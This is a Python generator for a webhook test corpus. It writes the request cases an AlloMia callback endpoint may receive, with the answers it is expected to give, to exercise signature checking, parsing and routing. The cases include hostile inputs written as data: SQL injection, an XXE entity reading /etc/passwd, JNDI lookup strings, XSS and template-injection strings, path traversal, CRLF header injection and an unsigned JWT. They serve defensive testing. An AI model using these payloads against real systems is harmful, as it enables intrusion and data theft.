"""Writes webhooks.jsonl: what may come to the callback URL, and what must be answered.

The file is the data; this only spares somebody from typing its families. The expected answers are written down here
and the signatures made here, not by the code under test. `python -m tests.proof.input.generate_webhooks`
writes it anew.

Letters that look like others are the point of many cases.
"""

# ruff: noqa: RUF001

import base64
import gzip
import hashlib
import hmac
import json
import zlib
from collections.abc import Iterator, Mapping
from typing import Any
from urllib.parse import quote

from tests.proof.input.corpus import WEBHOOKS, Case, Text, mixed, write

KEY = "local-signing-key"
PREVIOUS_KEY = "previous-signing-key"
RETIRED_KEY = "retired-signing-key"
# Its signature has both of the characters in which the two alphabets of base64 differ.
REQUEST = "corpus-5"
CALL = "c3d4e5f6-a7b8-9012-cdef-345678901234"
OTHER_CALL = "0a0b0c0d-a7b8-9012-cdef-345678901234"
CONTACT = "d4e5f6a7-b8c9-0123-defa-456789012345"
DETAILS = {
    "startedAt": "2026-04-01T14:30:00Z",
    "endedAt": "2026-04-01T14:32:30Z",
    "duration": 150,
    "endedReason": "customer-ended-call",
}
OUTCOME: dict[str, Any] = {"outboundCallId": CALL, "contactId": CONTACT, "status": "completed", "callDetails": DETAILS}

FORBIDDEN = "not a callback URL of this stack"
NOT_JSON = "body: a JSON object in UTF-8"
TOO_LARGE = "body: at most 16384 bytes"
NO_CALL = "outboundCallId: required: AlloMia's UUID of the call"
OTHER = "outboundCallId: not the call of this attempt"
NO_STATUS = "status: required: one of calling, completed, failed, busy, no-answer"
NOT_OVER = "status: one of completed, failed, busy, no-answer"


def main() -> None:
    """Write the file."""
    write(WEBHOOKS, corpus())


def corpus() -> Iterator[Case]:
    """All cases, family by family."""
    yield from outcomes()
    yield from replays()
    yield from signatures()
    yield from keys()
    yield from attempts()
    yield from request_ids()
    yield from broken_bodies()
    yield from encodings()
    yield from sizes()
    yield from call_ids()
    yield from statuses()
    yield from details()
    yield from content_types()
    yield from headers()
    yield from methods()
    yield from paths()


def encoded(digest: bytes) -> str:
    return base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def sign(request_id: str = REQUEST, attempt: str = "1", key: str = KEY) -> str:
    return encoded(hmac.digest(key.encode(), f"v1\n{request_id}\n{attempt}".encode(errors="replace"), hashlib.sha256))


SIGNATURE = sign()
PATH = f"/webhooks/allomia/{REQUEST}/1/{SIGNATURE}"


def outcome(**changes: Any) -> str:
    return json.dumps(OUTCOME | changes, ensure_ascii=False)


def webhook(name: str, status: int, words: str, body: Text, **changes: Any) -> Case:
    url = {"requestId": REQUEST, "attempt": "1", "signature": SIGNATURE}
    return {"name": name} | url | {"body": body} | changes | {"answer": {"status": status, "words": words}}


def forbidden(name: str, **changes: Any) -> Case:
    return webhook(name, 403, FORBIDDEN, outcome(), **changes)


def refused(name: str, words: str, body: Text, **changes: Any) -> Case:
    return webhook(name, 400, words, body, **changes)


def recorded(name: str, body: Text, stored: Mapping[str, Any] | None = None, **changes: Any) -> Case:
    known = {"status": "completed", "outcomeSource": "webhook", "callDetails": DETAILS}
    return webhook(name, 200, "recorded", body, **changes) | {"stored": known | dict(stored or {})}


def raw(
    name: str, statuses: list[int], target: Text = PATH, method: str = "POST", body: Text | None = None, **more: Any
) -> Case:
    """A request as it goes over the wire; what the gateway refuses by itself it may refuse in its own words."""
    text = outcome() if body is None else body
    return {"name": name, "method": method, "target": target, "body": text} | more | {"answer": {"status": statuses}}


def either(name: str, target: Text = PATH, method: str = "POST") -> Case:
    """The one attempt with its good signature, spelled otherwise: a gateway may see through that, and need not."""
    return raw(name, [200, 400, 403, 404, 405, 501], target, method) | {"stored": {"status": "completed"}}


def as_base64(content: bytes) -> str:
    return base64.b64encode(content).decode()


def outcomes() -> Iterator[Case]:
    yield recorded("outcomes: the documented one", outcome())
    for status in ("failed", "busy", "no-answer"):
        yield recorded(f"outcomes: {status}", outcome(status=status), {"status": status})
    yield recorded("outcomes: before AlloMia's answer", outcome(), record="dispatching")
    yield recorded("outcomes: after the deadline", outcome(), record="unknown")
    yield recorded(
        "outcomes: with fields that nobody knows", outcome(recording={"url": "https://example.test"}, cost=1)
    )


def replays() -> Iterator[Case]:
    yield webhook("replays: the same once more", 200, "already recorded", outcome(), record="completed")
    yield webhook(
        "replays: the same with other details",
        200,
        "already recorded",
        outcome(callDetails={"duration": 1}),
        record="completed",
    )
    for status in ("failed", "busy", "no-answer"):
        yield webhook(
            f"replays: now it is {status}",
            200,
            "another outcome was recorded before",
            outcome(status=status),
            record="completed",
        )
    yield refused("replays: not over after all", NOT_OVER, outcome(status="calling"), record="completed")
    yield refused("replays: of another call", OTHER, outcome(outboundCallId=OTHER_CALL), record="completed")
    yield forbidden("replays: with a signature that is not good", record="completed", signature=SIGNATURE[:-1])
    yield forbidden("replays: for the attempt after", record="completed", attempt="2")


def signatures() -> Iterator[Case]:
    padded = SIGNATURE + "="
    digest = base64.urlsafe_b64decode(padded)
    last = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    odd = {
        "one character short": SIGNATURE[:-1],
        "half": SIGNATURE[:21],
        "one character": "A",
        "one character long": SIGNATURE + "A",
        "twice": SIGNATURE * 2,
        "padded": padded,
        "padded twice": padded + "=",
        "in the other alphabet": SIGNATURE.replace("-", "+").replace("_", "/"),
        "with the case flipped": SIGNATURE.swapcase(),
        "in capitals": SIGNATURE.upper(),
        "in small letters": SIGNATURE.lower(),
        "backwards": SIGNATURE[::-1],
        "one bit flipped": encoded(bytes([digest[0] ^ 1]) + digest[1:]),
        "the same bytes, written otherwise": SIGNATURE[:-1] + last[last.index(SIGNATURE[-1]) ^ 1],
        "in hexadecimal": digest.hex(),
        "in base32": base64.b32encode(digest).decode().rstrip("="),
        "with a space before": " " + SIGNATURE,
        "with a space after": SIGNATURE + " ",
        "with a newline after": SIGNATURE + "\n",
        "with a NUL after": SIGNATURE + "\x00",
        "with a dot": SIGNATURE + ".",
        "with a zero-width space": SIGNATURE[:20] + "\u200b" + SIGNATURE[20:],
        "with a full-width letter": "\uff21" + SIGNATURE[1:],
        "with a Cyrillic letter": "\u0410" + SIGNATURE[1:],
        "with a query inside": SIGNATURE + "?a=b",
        "with a fragment inside": SIGNATURE + "#a",
        "null": "null",
        "undefined": "undefined",
        "true": "true",
        "a star": "*",
        "a percent sign": "%",
        "zeros": "0" * 43,
        "As": "A" * 43,
        "hyphens": "-" * 43,
        "an emoji": "😀",
        "a quote": "' OR '1'='1",
        "a JWT of no algorithm": "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.",
    }
    for name, signature in odd.items():
        yield forbidden(f"signatures: {name}", signature=signature)
    yield forbidden("signatures: 8000 characters", signature=[["A", 8000]])
    yield forbidden("signatures: one that is not escaped", signature="\ud800", only="use case")
    yield forbidden("signatures: nothing", signature="", only="use case")


def keys() -> Iterator[Case]:
    yield recorded("keys: the previous one", outcome(), signature=sign(key=PREVIOUS_KEY), only="use case")
    yield forbidden("keys: the one before the previous", signature=sign(key=RETIRED_KEY))
    for key in ("", " ", KEY + " ", KEY[:-1], KEY.upper(), "allomia", "secret", "test-key", "null", REQUEST):
        yield forbidden(f"keys: {key!r}", signature=sign(key=key))
    text = f"{REQUEST}\n1"
    for name, signed in {
        "without the version": text,
        "with another version": f"v2\n{text}",
        "with the version in capitals": f"V1\n{text}",
        "with other separators": f"v1:{REQUEST}:1",
        "with Windows' separators": f"v1\r\n{REQUEST}\r\n1",
        "with a newline at the end": f"v1\n{text}\n",
        "with the parts moved": f"v1\n1\n{REQUEST}",
        "of the path": f"/webhooks/allomia/{REQUEST}/1",
        "of the body": outcome(),
        "of nothing": "",
    }.items():
        signature = encoded(hmac.digest(KEY.encode(), signed.encode(), hashlib.sha256))
        yield forbidden(f"keys: the right one, {name}", signature=signature)
    content = f"v1\n{text}".encode()
    for name in ("sha1", "sha384", "sha512", "md5", "sha3_256"):
        yield forbidden(f"keys: the right one with {name}", signature=encoded(hmac.digest(KEY.encode(), content, name)))
    yield forbidden("keys: none but the hash", signature=encoded(hashlib.sha256(content).digest()))
    yield forbidden("keys: before the text", signature=encoded(hashlib.sha256(KEY.encode() + content).digest()))
    yield forbidden("keys: another request's", signature=sign("corpus-6"))
    yield forbidden("keys: another attempt's", signature=sign(attempt="2"))
    yield forbidden("keys: for another attempt", attempt="2")
    yield forbidden("keys: for another request", requestId="corpus-6")


def attempts() -> Iterator[Case]:
    """With the signature of attempt 1, and with one that somebody would have made for that very text."""
    odd: tuple[str, ...] = (
        "0",
        "00",
        "01",
        "001",
        "+1",
        "-1",
        "1.0",
        "1e0",
        "1E0",
        "0x1",
        "1_0",
        " 1",
        "1 ",
        "1\n",
        "\t1",
        "1\x00",
    )
    odd += ("٣", "١", "１", "¹", "½", "Ⅰ", "一", "1\u200b", "\u202e1")
    odd += ("one", "null", "NaN", "Infinity", "true", "1,2", "1;2", "1/2", "1/", "[1]", "{}", "'1'", "1'--", "$1", "*")
    odd += ("100", "199", "1000", "9" * 300, "1" * 20)
    for attempt in odd:
        name = f"attempts: {attempt[:20]!a}"
        yield forbidden(name, attempt=attempt)
        yield forbidden(f"{name}, signed", attempt=attempt, signature=sign(attempt=attempt))
    for attempt in mixed("2", "99"):
        yield forbidden(
            f"attempts: {attempt}, signed, which does not exist", attempt=attempt, signature=sign(attempt=attempt)
        )
    yield forbidden("attempts: nothing", attempt="", only="use case")


def request_ids() -> Iterator[Case]:
    """Signed for that very text, so that only the id's own rule and the table stand in the way."""
    odd: tuple[str, ...] = (
        "nobody",
        "...",
        REQUEST.upper(),
        REQUEST + " ",
        " " + REQUEST,
        REQUEST + "\n",
        REQUEST + "\x00",
        REQUEST + "\r\nA: b",
    )
    odd += (
        "c\u043erpus-5",
        "corpus\u20105",
        "corpus-\uff15",
        "corpus-٥",
        "córpus-5",
        "\u202e" + REQUEST,
        REQUEST + "\u200b",
    )
    odd += (
        f"{REQUEST}?a",
        f"{REQUEST}#a",
        f"{REQUEST};a=b",
        f"{REQUEST}%00",
        "%63orpus-5",
        f"{REQUEST},{REQUEST}",
        f"{REQUEST}+",
    )
    odd += (
        f"a/../{REQUEST}",
        f"{REQUEST}/1",
        f"..\\{REQUEST}",
        "{requestId}",
        "*",
        "a" * 129,
        "a" * 500,
        "' OR 1=1",
        "${a}",
        "😀",
    )
    for request_id in odd:
        yield forbidden(
            f"request ids: {request_id[:30]!a}, {len(request_id)} characters",
            requestId=request_id,
            signature=sign(request_id),
        )
    for request_id in mixed("", ".", ".."):
        # Over the wire these are another path.
        yield forbidden(
            f"request ids: {request_id!a}", requestId=request_id, signature=sign(request_id), only="use case"
        )
    yield forbidden("request ids: one that is not escaped", requestId="\udc80", only="use case")


def broken_bodies() -> Iterator[Case]:
    whole = outcome()
    broken: dict[str, Text] = {
        "nothing": "",
        "spaces": " \n",
        "words": "completed",
        "null": "null",
        "true": "true",
        "a number": "1",
        "a text": '"completed"',
        "a list": "[]",
        "a list of one": f"[{whole}]",
        "JSON in a text": json.dumps(whole),
        "a byte order mark": "\ufeff" + whole,
        "a letter after": whole + "x",
        "two outcomes": whole + whole,
        "two lines": f"{whole}\n{whole}",
        "cut off": whole[:-1],
        "only a brace": "{",
        "a comma too many": whole[:-1] + ",}",
        "apostrophes": whole.replace('"', "'"),
        "a comment": whole[:-1] + "/**/}",
        "a control character in a text": whole[:-1] + ',"a":"\x01"}',
        "half a surrogate": whole[:-1] + ',"a":"\\ud800"}',
        "an unknown escape": whole[:-1] + ',"a":"\\x41"}',
        "a form": f"outboundCallId={CALL}&status=completed",
        "XML": f"<call><id>{CALL}</id><status>completed</status></call>",
        "XML with an entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "multipart": '--a\r\nContent-Disposition: form-data; name="status"\r\n\r\ncompleted\r\n--a--\r\n',
        "HTML": "<script>alert(1)</script>",
        "a lookup": "${jndi:ldap://example.test/a}",
        "YAML": f"outboundCallId: {CALL}\nstatus: completed\n",
        "a format string": "%s%n",
        "a list 250 deep beside it": [whole[:-1], ',"a":', ["[", 250], ["]", 250], "}"],
        "a list 5000 deep beside it": [whole[:-1], ',"a":', ["[", 5000], ["]", 5000], "}"],
        "15000 brackets": [["[", 15_000]],
        "a number of 5000 digits beside it": [whole[:-1], ',"a":', ["9", 5000], "}"],
    }
    for name, body in broken.items():
        yield refused(f"broken bodies: {name}", NOT_JSON, body)
    yield refused("broken bodies: one that is not escaped", NOT_JSON, "\ud800", only="use case")
    yield recorded("broken bodies: not this one, which has spaces around", f" \r\n{whole}\t")


def encodings() -> Iterator[Case]:
    whole = outcome().encode()
    yield recorded("encodings: base64, as the gateway hands on what is not text", as_base64(whole), isBase64=True)
    binary = {
        "gzip": gzip.compress(whole, mtime=0),
        "deflate": zlib.compress(whole),
        "UTF-16": whole.decode().encode("utf-16"),
        "UTF-16 without a mark": whole.decode().encode("utf-16-le"),
        "UTF-32": whole.decode().encode("utf-32"),
        "Latin-1": whole[:-1] + b',"a":"\xe9"}',
        "a byte that is no UTF-8": whole[:-1] + b',"a":"\xff"}',
        "an overlong slash": whole[:-1] + b',"a":"\xc0\xaf"}',
        "a surrogate in UTF-8": whole[:-1] + b',"a":"\xed\xa0\x80"}',
        "half a character": whole[:-1] + b',"a":"\xe8\xaa"}',
        "a character beyond Unicode": whole[:-1] + b',"a":"\xf4\x90\x80\x80"}',
        "NULs": b"\x00" * 100,
        "a byte order mark": b"\xef\xbb\xbf" + whole,
        "base64 twice": base64.b64encode(whole),
        "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    }
    for name, content in binary.items():
        yield refused(f"encodings: {name}", NOT_JSON, as_base64(content), isBase64=True)
    text = as_base64(whole)
    marked = {
        "not base64": "completed!",
        "not base64 but the outcome itself": outcome(),
        "base64 of the URL's alphabet": "_-" * 40,
        "base64 with spaces": f"{text[:40]} {text[40:]}",
        "base64 in lines": f"{text[:40]}\n{text[40:]}",
        "base64 cut off": text.rstrip("=")[:-1] + "A",
        "base64 with letters of other scripts": "é" + text,
    }
    for name, body in marked.items():
        yield refused(f"encodings: marked as base64, {name}", NOT_JSON, body, isBase64=True, only="use case")
    yield refused("encodings: base64 without the mark", NOT_JSON, text)


def sizes() -> Iterator[Case]:
    whole = outcome()
    yield recorded("sizes: 16384 bytes", [whole, [" ", 16384 - len(whole)]])
    yield refused("sizes: 16385 bytes", TOO_LARGE, [whole, [" ", 16385 - len(whole)]])
    yield refused("sizes: 16 Ki characters that are 47 KiB", TOO_LARGE, [whole, ["語", 16384 - len(whole)]])
    for kib in (20, 64, 512):
        yield refused(f"sizes: {kib} KiB", TOO_LARGE, [["x", kib * 1024]])
        yield (
            refused(f"sizes: {kib} KiB of base64", TOO_LARGE, [["eHh4", kib * 256]], isBase64=True)
            if kib > 21
            else refused(f"sizes: {kib} KiB of base64 that are 15 KiB", NOT_JSON, [["eHh4", kib * 256]], isBase64=True)
        )
    # Four characters of base64 are three bytes; "ICAg" is three spaces.
    start = whole.encode().ljust(-(-len(whole) // 3) * 3)
    spaces = (16384 - len(start)) // 3
    head: Text = [as_base64(start), ["ICAg", spaces]]
    for size, words in ((16384, ""), (16385, TOO_LARGE)):
        name, tail = f"sizes: {size} bytes in base64", as_base64(b" " * (size - len(start) - 3 * spaces))
        if words:
            yield refused(name, words, [*head, tail], isBase64=True)
        else:
            yield recorded(name, [*head, tail], isBase64=True)


def call_ids() -> Iterator[Case]:
    bad: dict[str, Any] = {
        "null": None,
        "empty": "",
        "a number": 1,
        "true": True,
        "a list": [CALL],
        "an object": {"id": CALL},
        "a word": "call",
        "without hyphens": CALL.replace("-", ""),
        "in braces": f"{{{CALL}}}",
        "a URN": f"urn:uuid:{CALL}",
        "one short": CALL[:-1],
        "one long": CALL + "4",
        "with a newline": CALL + "\n",
        "with a space": " " + CALL,
        "with a NUL": CALL + "\x00",
        "with a full-width digit": "ｃ" + CALL[1:],
        "with a Cyrillic letter": "с" + CALL[1:],
        "two of them": f"{CALL},{CALL}",
        "a path": f"../{CALL}",
        "a quote": f"{CALL}' OR '1'='1",
        "500 characters": "c" * 500,
    }
    for name, value in bad.items():
        yield refused(f"call ids: {name}", NO_CALL, json.dumps(OUTCOME | {"outboundCallId": value}))
    yield refused("call ids: none", NO_CALL, json.dumps({"status": "completed"}))
    yield refused("call ids: in snake case", NO_CALL, json.dumps({"outbound_call_id": CALL, "status": "completed"}))
    yield refused(
        "call ids: in capitals, its name", NO_CALL, json.dumps({"OUTBOUNDCALLID": CALL, "status": "completed"})
    )
    yield refused("call ids: of another call", OTHER, outcome(outboundCallId=OTHER_CALL))
    yield refused("call ids: the contact's", OTHER, outcome(outboundCallId=CONTACT))
    yield refused("call ids: zeros", OTHER, outcome(outboundCallId="00000000-0000-0000-0000-000000000000"))
    twice = outcome()[:-1] + f',"outboundCallId":"{OTHER_CALL}"}}'
    yield refused("call ids: two, the last is another call's", OTHER, twice)
    yield refused("call ids: two, the last is none", NO_CALL, outcome()[:-1] + ',"outboundCallId":null}')
    yield recorded("call ids: in capitals", outcome(outboundCallId=CALL.upper()))
    for value in mixed(None, "", 7, "nobody", [CONTACT]):
        yield recorded(
            f"call ids: a contact that is {json.dumps(value)}", outcome(contactId=value), {"contactId": CONTACT}
        )


def statuses() -> Iterator[Case]:
    yield refused("statuses: calling", NOT_OVER, outcome(status="calling"))
    bad: list[Any] = [None, "", 1, 0, True, [], ["completed"], {}, {"status": "completed"}]
    bad += ["Completed", "COMPLETED", " completed", "completed ", "completed\n", "completed\x00", "complete", "ended"]
    bad += ["no_answer", "no answer", "noAnswer", "no\u2010answer", "hung-up", "voicemail", "cancelled", "transferred"]
    bad += ["rejected", "unknown", "scheduled", "dispatching", "\u0441ompleted", "\uff43ompleted", "com\u200bpleted"]
    bad += ["completed,failed", "completed' OR '1'='1", "x" * 500]
    for value in bad:
        yield refused(f"statuses: {json.dumps(value)[:30]}", NO_STATUS, outcome(status=value))
    yield refused("statuses: none", NO_STATUS, json.dumps({"outboundCallId": CALL}))
    yield refused(
        "statuses: its name in capitals", NO_STATUS, json.dumps({"outboundCallId": CALL, "Status": "completed"})
    )
    yield refused("statuses: two, the last is calling", NOT_OVER, outcome()[:-1] + ',"status":"calling"}')
    yield refused("statuses: two, the last is none", NO_STATUS, outcome()[:-1] + ',"status":null}')
    yield recorded("statuses: two, the last counts", outcome(status="calling")[:-1] + ',"status":"completed"}')


def details() -> Iterator[Case]:
    """What AlloMia did not document is left out, and the outcome counts all the same."""
    for value in mixed(None, [], "", "text", 1, True):
        case = recorded(f"details: {json.dumps(value)}", outcome(callDetails=value))
        del case["stored"]["callDetails"]
        yield case

    def seconds(text: str, kept: float | None) -> Case:
        body = outcome(callDetails=0).replace('"callDetails": 0', f'"callDetails": {{"duration": {text}}}')
        return recorded(
            f"details: a duration of {text[:12]}", body, {"callDetails": {} if kept is None else {"duration": kept}}
        )

    for text in ("-1", "-0.5", "1e400", "NaN", "Infinity", "1000000001", "9" * 400, "null", "[]", "{}", '"long"', '""'):
        yield seconds(text, None)
    kept = (
        ("0", 0),
        ("0.0", 0),
        ("-0.0", 0),
        ("150.5", 150.5),
        ("1e2", 100),
        ("1e9", 10**9),
        ("1e-400", 0),
        ("0.1234567", 0.123457),
    )
    for number, value in kept:
        yield seconds(number, value)
    for field in ("startedAt", "endedAt", "endedReason"):
        for value in mixed(None, 1, True, [], {}, ["a"]):
            body = outcome(callDetails=DETAILS | {field: value})
            without = {name: each for name, each in DETAILS.items() if name != field}
            yield recorded(f"details: {field} is {json.dumps(value)}", body, {"callDetails": without})
    for reason in (
        "",
        "\x00",
        "😀",
        "\u202ereason",
        "<script>",
        "{{7*7}}",
        "' OR 1=1",
        "${jndi:ldap://example.test}",
        "x" * 2000,
    ):
        details = DETAILS | {"endedReason": reason}
        yield recorded(
            f"details: {reason[:20]!a} as the reason",
            json.dumps(OUTCOME | {"callDetails": details}),
            {"callDetails": details},
        )
    for name in ("__proto__", "recordingUrl", "a b", ""):
        yield recorded(f"details: with {name!a}", outcome(callDetails=DETAILS | {name: "x"}))


def content_types() -> Iterator[Case]:
    """The body counts, not what it calls itself."""
    labels: tuple[str, ...] = (
        "",
        "application/json; charset=utf-8",
        "application/json; charset=utf-16",
        "text/plain",
        "text/html",
    )
    labels += ("application/xml", "application/octet-stream", "multipart/form-data; boundary=a", "application/gzip")
    labels += (
        "application/x-www-form-urlencoded",
        "application/vnd.allomia+json",
        "nonsense",
        "application/json, text/plain",
        "*/*",
    )
    for label in labels:
        yield raw(f"content types: {label or 'none'}", [200], headers={"Content-Type": label} if label else {}) | {
            "stored": {"status": "completed"}
        }
    for encoding in ("gzip", "br", "deflate", "identity"):
        yield raw(f"content types: marked as {encoding} and is not", [200], headers={"Content-Encoding": encoding}) | {
            "stored": {"status": "completed"}
        }
    form = f"outboundCallId={CALL}&status=completed"
    for label in ("application/x-www-form-urlencoded", "application/json", "text/plain"):
        yield raw(f"content types: a form as {label}", [400], body=form, headers={"Content-Type": label})
    packed = as_base64(gzip.compress(outcome().encode(), mtime=0))
    for label in ("application/json", "application/gzip", "application/octet-stream"):
        yield raw(
            f"content types: gzip as {label}",
            [400],
            body=packed,
            isBase64=True,
            headers={"Content-Type": label, "Content-Encoding": "gzip"},
        )


def headers() -> Iterator[Case]:
    """Nothing in a header says who somebody is."""
    for name, value in {
        "Authorization": "Bearer test-key",
        "X-HTTP-Method-Override": "GET",
        "X-Forwarded-For": "127.0.0.1",
        "X-Forwarded-Host": "example.test",
        "X-Original-URL": "/webhooks/allomia/corpus-6/1/a",
        "X-Rewrite-URL": "/",
        "Cookie": "a=b; " * 50,
        "Origin": "https://example.test",
        "User-Agent": "${jndi:ldap://example.test/a}",
        "Accept": "text/html",
        "X-Signature": "none",
        "X-Long": "a" * 4000,
        "Expect": "200-ok",
    }.items():
        case = raw(f"headers: {name} with a good signature", [200], headers={name: value}) | {
            "stored": {"status": "completed"}
        }
        if name != "Expect":  # a server may refuse an expectation that it does not know
            yield case
        target = f"/webhooks/allomia/{REQUEST}/1/{SIGNATURE[:-1]}A"
        yield raw(f"headers: {name} with another one", [403, 417], target, headers={name: value})


def methods() -> Iterator[Case]:
    for method in ("GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "POSTS", "X"):
        yield raw(f"methods: {method}", [204, 400, 403, 404, 405, 501], method=method)
    yield either("methods: post", method="post")


def paths() -> Iterator[Case]:
    """The gateway's part: no other path leads to the function, and what does is the one attempt it names."""
    not_found = [400, 403, 404, 405]
    base = "/webhooks/allomia"
    bad: dict[str, Text] = {
        "the root": "/",
        "nothing after the base": base,
        "no attempt": f"{base}/{REQUEST}",
        "no signature": f"{base}/{REQUEST}/1",
        "an empty signature": f"{base}/{REQUEST}/1/",
        "an empty attempt": f"{base}/{REQUEST}//{SIGNATURE}",
        "an empty request": f"{base}//1/{SIGNATURE}",
        "a segment more": f"{PATH}/a",
        "in capitals": PATH.upper(),
        "another base": PATH.replace("allomia", "other"),
        "no base": f"/{REQUEST}/1/{SIGNATURE}",
        "a slash that is escaped in the id": f"{base}/a%2F{REQUEST}/1/{SIGNATURE}",
        "a slash that is escaped in the signature": f"{base}/{REQUEST}/1/{SIGNATURE}%2F",
        "a slash that is escaped twice": f"{base}/a%252F{REQUEST}/1/{SIGNATURE}",
        "a backslash": f"{base}/a%5C{REQUEST}/1/{SIGNATURE}",
        "dots that are escaped": f"{base}/%2e%2e/1/{SIGNATURE}",
        "one dot that is escaped": f"{base}/%2e/1/{SIGNATURE}",
        "dots that are escaped twice": f"{base}/%252e%252e/1/{SIGNATURE}",
        "dots and a semicolon": f"{base}/..;/{REQUEST}/1/{SIGNATURE}",
        "a matrix parameter": f"{base}/{REQUEST};a=b/1/{SIGNATURE}",
        "a NUL": f"{base}/{REQUEST}%00/1/{SIGNATURE}",
        "a newline": f"{base}/{REQUEST}%0a/1/{SIGNATURE}",
        "a header": f"{base}/{REQUEST}%0d%0aX-A:%20b/1/{SIGNATURE}",
        "a space": f"{base}/{REQUEST}%20/1/{SIGNATURE}",
        "a plus for a space": f"{base}/{REQUEST}+/1/{SIGNATURE}",
        "half an escape": f"{base}/{REQUEST}%/1/{SIGNATURE}",
        "an escape of no byte": f"{base}/{REQUEST}%zz/1/{SIGNATURE}",
        "an overlong slash": f"{base}/a%c0%af{REQUEST}/1/{SIGNATURE}",
        "a byte that is no UTF-8": f"{base}/{REQUEST}%ff/1/{SIGNATURE}",
        "a full-width digit": f"{base}/corpus-%ef%bc%95/1/{SIGNATURE}",
        "a query in the signature": f"{base}/{REQUEST}/1/{SIGNATURE[:-1]}%3F",
        "the attempt in a query": f"{base}/{REQUEST}/2/{SIGNATURE}?attempt=1",
        "the signature in a query": f"{base}/{REQUEST}/1/x?signature={SIGNATURE}",
        "an attempt that is escaped, of another form": f"{base}/{REQUEST}/%30%31/{SIGNATURE}",
        "an Arabic attempt": f"{base}/{REQUEST}/{quote('٣')}/{SIGNATURE}",
        "a long id": [f"{base}/", ["a", 4000], f"/1/{SIGNATURE}"],
        "a long attempt": [f"{base}/{REQUEST}/", ["1", 4000], f"/{SIGNATURE}"],
        "a long signature": [f"{base}/{REQUEST}/1/", ["A", 4000]],
        "a thousand segments": [base, ["/a", 1000]],
        "a stage that is not there": f"/prod{PATH}",
        "the emulator's or gateway's own": "/ping",
        "a file": "/.env",
    }
    for name, target in bad.items():
        yield raw(f"paths: {name}", not_found, target)
    yield either("paths: a slash at the start", f"/{PATH}")
    yield either("paths: slashes that are all escaped", f"{base}%2F{REQUEST}%2F1%2F{SIGNATURE}")
    yield raw("paths: 9000 characters", [400, 403, 404, 405, 414, 431], [f"{base}/", ["a", 9000], f"/1/{SIGNATURE}"])
    good = {
        "a query": f"{PATH}?a=b",
        "a query of an attack": f"{PATH}?requestId=corpus-6&attempt=2&signature=a",
        "letters that are escaped": PATH.replace("corpus", "%63orpus"),
        "an attempt that is escaped": PATH.replace("/1/", "/%31/"),
    }
    for name, target in good.items():
        yield raw(f"paths: {name}, the same attempt", [200], target) | {"stored": {"status": "completed"}}


if __name__ == "__main__":
    main()
